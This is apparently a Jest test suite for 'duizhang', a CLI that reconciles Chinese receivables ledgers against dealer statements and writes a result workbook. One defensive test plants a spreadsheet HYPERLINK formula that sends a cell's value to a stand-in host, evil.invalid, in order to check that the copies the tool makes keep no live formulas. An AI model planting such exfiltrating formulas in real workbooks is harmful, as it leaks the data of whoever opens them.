import * as fs from "fs";
import * as path from "path";
import { run, sampleDir } from "./support";
import { XlsxWorkbook } from "../../src/xlsx/workbook";

let dir: string;
beforeAll(async () => {
  dir = await sampleDir();
});
afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

describe("duizhang help and bad arguments", () => {
  test("--help lists every command, in Chinese by default and in English on request", async () => {
    const zh = await run(["--help"], dir);
    expect(zh.code).toBe(0);
    for (const c of ["sheets", "read", "reconcile", "aging", "demo"]) expect(zh.out).toContain(c);
    expect(zh.out).toContain("对账");
    const en = await run(["--help", "--lang", "en"], dir);
    expect(en.out).toContain("Usage: duizhang <command>");
  });

  test.each([
    [["frobnicate"], /未知命令：frobnicate/],
    [["sheets"], /缺少文件/],
    [["sheets", "missing.xlsx"], /找不到文件：missing\.xlsx/],
    [["sheets", "notes.txt"], /不支持的文件类型：notes\.txt/],
    [["sheets", "old.xls"], /无法读取 old\.xls：不是有效的旧版 Excel \(\.xls\) 文件/],
    [["read", "sample.xlsx", "--sheet", "没有这张表"], /sample\.xlsx 中没有工作表“没有这张表”/],
    [["read", "sample.xlsx", "--as-of", "2026-13-01"], /--as-of 须为 YYYY-MM-DD/],
    [["read", "sample.xlsx", "--map", "colour=B"], /--map 写法有误/],
    [["read", "sample.xlsx", "--bogus"], /参数有误/],
    [["reconcile", "--ledger", "sample.xlsx"], /缺少 --statement/],
    [["reconcile", "--ledger", "sample.xlsx", "--statement", "sample.xlsx", "--ledger-sheet", "应收明细账", "--statement-sheet", "应收明细账"], /同一张工作表/],
    [["reconcile", "--ledger", "sample.xlsx", "--statement", "sample.xlsx", "--amount-tolerance", "-1"], /--amount-tolerance/],
    [["reconcile", "--ledger", "sample.xlsx", "--statement", "sample.xlsx", "--date-window", "abc"], /--date-window/],
    [["reconcile", "--ledger", "sample.xlsx", "--statement", "sample.xlsx", "--out", "sample.xlsx"], /不能覆盖输入文件/],
  ])("%j gives one clear line on stderr and exit 2", async (argv, message) => {
    fs.writeFileSync(path.join(dir, "notes.txt"), "x");
    fs.writeFileSync(path.join(dir, "old.xls"), "x");
    const r = await run(argv as string[], dir);
    expect(r.code).toBe(2);
    expect(r.out).toBe("");
    expect(r.err.trimEnd().split("\n")).toHaveLength(1);
    expect(r.err).toMatch(/^duizhang: /);
    expect(r.err).toMatch(message);
  });

  test("--out never overwrites an input, even through a link to it", async () => {
    fs.copyFileSync(path.join(dir, "sample.xlsx"), path.join(dir, "st.xlsx"));
    const before = fs.readFileSync(path.join(dir, "st.xlsx"));
    fs.rmSync(path.join(dir, "link.xlsx"), { force: true });
    fs.symlinkSync(path.join(dir, "st.xlsx"), path.join(dir, "link.xlsx"));
    fs.rmSync(path.join(dir, "hard.xlsx"), { force: true });
    fs.linkSync(path.join(dir, "st.xlsx"), path.join(dir, "hard.xlsx"));
    for (const out of ["link.xlsx", "hard.xlsx", "./sub/../st.xlsx"]) {
      fs.mkdirSync(path.join(dir, "sub"), { recursive: true });
      const r = await run(["reconcile", "--ledger", "sample.xlsx", "--ledger-sheet", "应收明细账", "--statement", "st.xlsx", "--statement-sheet", "美达对账单", "--out", out], dir);
      expect([r.code, r.err]).toEqual([2, `duizhang: 结果文件不能覆盖输入文件：${out}\n`]);
    }
    expect(fs.readFileSync(path.join(dir, "st.xlsx")).equals(before)).toBe(true);
  });

  test("a file that is not a workbook is named in the message", async () => {
    fs.writeFileSync(path.join(dir, "broken.xlsx"), "not a zip");
    const r = await run(["sheets", "broken.xlsx"], dir);
    expect(r.code).toBe(2);
    expect(r.err).toContain("无法读取 broken.xlsx");
  });
});

describe("duizhang sheets", () => {
  test("lists the sample's sheets with their sizes", async () => {
    const r = await run(["sheets", "sample.xlsx", "--json"], dir);
    expect(r.code).toBe(0);
    const json = JSON.parse(r.out);
    expect(json.sheets.map((s: { name: string; rowCount: number; columnCount: number }) => [s.name, s.rowCount, s.columnCount])).toEqual([
      ["应收明细账", 28, 8],
      ["美达对账单", 23, 6],
      ["发货回款登记", 13, 8],
      ["本公司信息", 7, 2],
    ]);
    const text = await run(["sheets", "sample.xlsx"], dir);
    expect(text.out).toMatch(/应收明细账\s+28\s+8/);
  });
});

describe("duizhang read", () => {
  test("reads the Kingdee-style ledger: dealer from the title, opening balance, totals skipped", async () => {
    const r = await run(["read", "sample.xlsx", "--sheet", "应收明细账", "--json"], dir);
    expect(r.code).toBe(0);
    const json = JSON.parse(r.out);
    expect(json.side).toBe("ledger");
    expect(json.dealer).toBe("杭州美达商贸有限公司");
    expect(json.headerRows).toEqual([4]);
    expect(json.counts.entries).toBe(15);
    expect(json.openingBalance).toBe("120000.00");
    expect(json.closingBalance).toBe("233340.50");
    expect(json.balanceCheck).toMatchObject({ checked: true, firstMismatchRow: null });
    expect(json.mapping.debit).toMatchObject({ column: "E", header: "借方" });
    expect(json.errors).toEqual([]);
    expect(json.skipped.filter((s: { reason: string }) => s.reason === "total")).toHaveLength(8);
  });

  test("reads the dealer's statement in our sign", async () => {
    const r = await run(["read", "sample.xlsx", "--sheet", "美达对账单", "--json"], dir);
    const json = JSON.parse(r.out);
    expect(json.side).toBe("statement");
    expect(json.counts.entries).toBe(16);
    expect(json.errors).toEqual([]);
    expect(json.skipped).toContainEqual({ row: 23, reason: "sign-off", text: "制表：财务部 陈静" });
    expect(json.openingBalance).toBe("120000.00");
    expect(json.closingBalance).toBe("36350.50");
  });

  test("a user's column choice overrides detection", async () => {
    const r = await run(["read", "sample.xlsx", "--sheet", "应收明细账", "--map", "description=C", "--json"], dir);
    expect(JSON.parse(r.out).mapping.description).toMatchObject({ column: "C", source: "user" });
  });
});

describe("duizhang reconcile", () => {
  test("the JSON contract on the sample: differences, reasons and the 余额调节表 with its 待查 items", async () => {
    const r = await run(["reconcile", "--ledger", "sample.xlsx", "--ledger-sheet", "应收明细账", "--statement", "sample.xlsx", "--statement-sheet", "美达对账单", "--as-of", "2026-10-31", "--json"], dir);
    expect(r.code).toBe(0);
    const json = JSON.parse(r.out);
    expect(json.asOf).toBe("2026-10-31");
    expect(json.dealers).toHaveLength(1);
    const d = json.dealers[0];
    expect(d.dealer).toBe("杭州美达商贸有限公司");
    expect(d.ledger).toMatchObject({ sheet: "应收明细账", entries: 15, closingBalance: "233340.50" });
    expect(d.statement).toMatchObject({ sheet: "美达对账单", entries: 16, closingBalance: "36350.50" });
    expect(d.matched).toBe(11);
    const kinds = d.differences.map((x: { kind: string; ledgerRows: number[]; statementRows: number[]; amount: string }) => [x.kind, x.ledgerRows, x.statementRows, x.amount]);
    expect(kinds).toEqual(
      expect.arrayContaining([
        ["amount_mismatch", [17], [11], "-900.00"],
        ["amount_mismatch", [19], [14], "90.00"],
        ["duplicate", [13], [], "27800.00"],
        ["ledger_only", [26], [], "58000.00"],
        ["statement_only", [], [19], "12000.00"],
        ["statement_only", [], [20], "100000.00"],
      ]),
    );
    expect(d.differences).toHaveLength(6);
    for (const x of d.differences) expect(typeof x.reason).toBe("string");
    // Our duplicate and the two mismatches are 待查 (errors to correct), not adjustments: the adjusted
    // balances stay 26,990.00 apart, which is exactly their total, and nothing is left unexplained.
    expect(d.reconciliation).toMatchObject({
      ledgerBalance: "233340.50",
      statementBalance: "36350.50",
      adjustedLedgerBalance: "121340.50",
      adjustedStatementBalance: "94350.50",
      remainder: "26990.00",
      pendingTotal: "26990.00",
      unexplained: "0.00",
      balanced: false,
    });
    expect(d.reconciliation.pendingItems.map((x: { source: string; ledgerAmount: string; statementAmount: string }) => [x.source, x.ledgerAmount, x.statementAmount])).toEqual([
      ["amount_mismatch", "25630.00", "26530.00"],
      ["amount_mismatch", "36800.00", "36710.00"],
      ["duplicate", "27800.00", "0.00"],
    ]);
  });

  test("--out writes a new workbook with marked copies, 差异明细 and 余额调节表, and leaves the input alone", async () => {
    const input = path.join(dir, "sample.xlsx");
    const before = fs.readFileSync(input);
    const r = await run(["reconcile", "--ledger", "sample.xlsx", "--ledger-sheet", "应收明细账", "--statement", "sample.xlsx", "--statement-sheet", "美达对账单", "--as-of", "2026-10-31", "--out", "result.xlsx"], dir);
    expect(r.code).toBe(0);
    expect(r.out).toContain("result.xlsx");
    expect(fs.readFileSync(input).equals(before)).toBe(true);
    const out = await XlsxWorkbook.open(path.join(dir, "result.xlsx"));
    expect((await out.listSheets()).map((s) => s.name)).toEqual(["台账-应收明细账", "对账单-美达对账单", "差异明细", "余额调节表"]);
    const marks = await out.listMarks("reconcile", "台账-应收明细账");
    expect(marks).toEqual([
      { row: 13, style: "duplicate" },
      { row: 17, style: "amount_mismatch" },
      { row: 19, style: "amount_mismatch" },
      { row: 26, style: "ledger_only" },
    ]);
    const diff = await out.readSheet("差异明细");
    // Title, cut-off and header, six differences, then (after a blank row) the totals and the sign-off line.
    expect(diff.values.findIndex((row, i) => i > 2 && row.every((c) => c === null))).toBe(3 + 6);
  });

  test("a statement that is not a statement at all is refused, naming the file", async () => {
    fs.writeFileSync(path.join(dir, "junk.csv"), "名称,数量\n螺丝,100\n");
    const r = await run(["reconcile", "--ledger", "sample.xlsx", "--ledger-sheet", "应收明细账", "--statement", "junk.csv"], dir);
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/^duizhang: 无法读取对账单（junk\.csv）：/);
    expect(r.err.trimEnd().split("\n")).toHaveLength(1);
  });

  test("file names Excel would refuse as sheet names still give a result workbook", async () => {
    fs.writeFileSync(path.join(dir, "led[2026]?.csv"), "日期,单号,摘要,借方,贷方\n2026-10-01,XS-1,销售,100.00,\n");
    fs.writeFileSync(path.join(dir, "s.csv"), "日期,单据号,摘要,进货金额,付款金额\n2026-10-02,XS-1,进货,100.00,\n");
    const r = await run(["reconcile", "--ledger", "led[2026]?.csv", "--statement", "s.csv", "--out", "odd.xlsx"], dir);
    expect([r.code, r.err]).toEqual([0, ""]);
    const out = await XlsxWorkbook.open(path.join(dir, "odd.xlsx"));
    expect((await out.listSheets()).map((s) => s.name)).toEqual(["台账-led_2026__", "对账单-s", "差异明细", "余额调节表"]);
  });

  test("CSV inputs: GBK or UTF-8, rows are line numbers", async () => {
    fs.writeFileSync(path.join(dir, "l.csv"), "\ufeff日期,单号,摘要,借方,贷方\n2026-10-01,XS-1,销售,100.00,\n2026-10-05,XS-2,销售,50.00,\n");
    fs.writeFileSync(path.join(dir, "s.csv"), "日期,单据号,摘要,进货金额,付款金额\n2026-10-02,XS-1,进货,100.00,\n");
    const r = await run(["reconcile", "--ledger", "l.csv", "--statement", "s.csv", "--json"], dir);
    expect(r.code).toBe(0);
    const d = JSON.parse(r.out).dealers[0];
    expect(d.matched).toBe(1);
    const withOut = await run(["reconcile", "--ledger", "l.csv", "--statement", "s.csv", "--out", "csv-result.xlsx"], dir);
    expect(withOut.code).toBe(0);
    const copy = (await XlsxWorkbook.open(path.join(dir, "csv-result.xlsx"))).workbook.getWorksheet("台账-l")!;
    // Numbers and dates in the copy are numbers and dates; references keep their text (leading zeros too).
    expect(copy.getCell("D2").value).toBe(100);
    expect(copy.getCell("A2").value).toEqual(new Date(Date.UTC(2026, 9, 1)));
    expect(copy.getCell("B2").value).toBe("XS-1");
    expect(d.differences).toEqual([expect.objectContaining({ kind: "ledger_only", ledgerRows: [3], statementRows: [], amount: "50.00" })]);
  });
});

describe("copies in the result workbook", () => {
  test("the dealer's formulas and links are copied as the values that were read, never as live formulas", async () => {
    const d = await sampleDir();
    const wb = await XlsxWorkbook.open(path.join(d, "sample.xlsx"));
    const ws = wb.workbook.getWorksheet("美达对账单")!;
    ws.getCell("C19").value = { formula: 'HYPERLINK("http://evil.invalid/?"&B19,"三季度返利冲抵货款")', result: "三季度返利冲抵货款" };
    ws.getCell("G5").value = { formula: "参数!A1*1", result: 7 };
    ws.getCell("G6").value = { text: "回单", hyperlink: "http://evil.invalid/x" };
    await wb.save(path.join(d, "formulas.xlsx"));
    const r = await run(["reconcile", "--ledger", "formulas.xlsx", "--ledger-sheet", "应收明细账", "--statement", "formulas.xlsx", "--statement-sheet", "美达对账单", "--out", "r.xlsx"], d);
    expect(r.code).toBe(0);
    const out = await XlsxWorkbook.open(path.join(d, "r.xlsx"));
    const copy = out.workbook.getWorksheet("对账单-美达对账单")!;
    expect(copy.getCell("C19").value).toBe("三季度返利冲抵货款");
    expect(copy.getCell("G5").value).toBe(7);
    expect(copy.getCell("G6").value).toBe("回单");
    copy.eachRow((row) => row.eachCell((c) => expect(c.formula).toBeUndefined()));
    fs.rmSync(d, { recursive: true, force: true });
  });
});
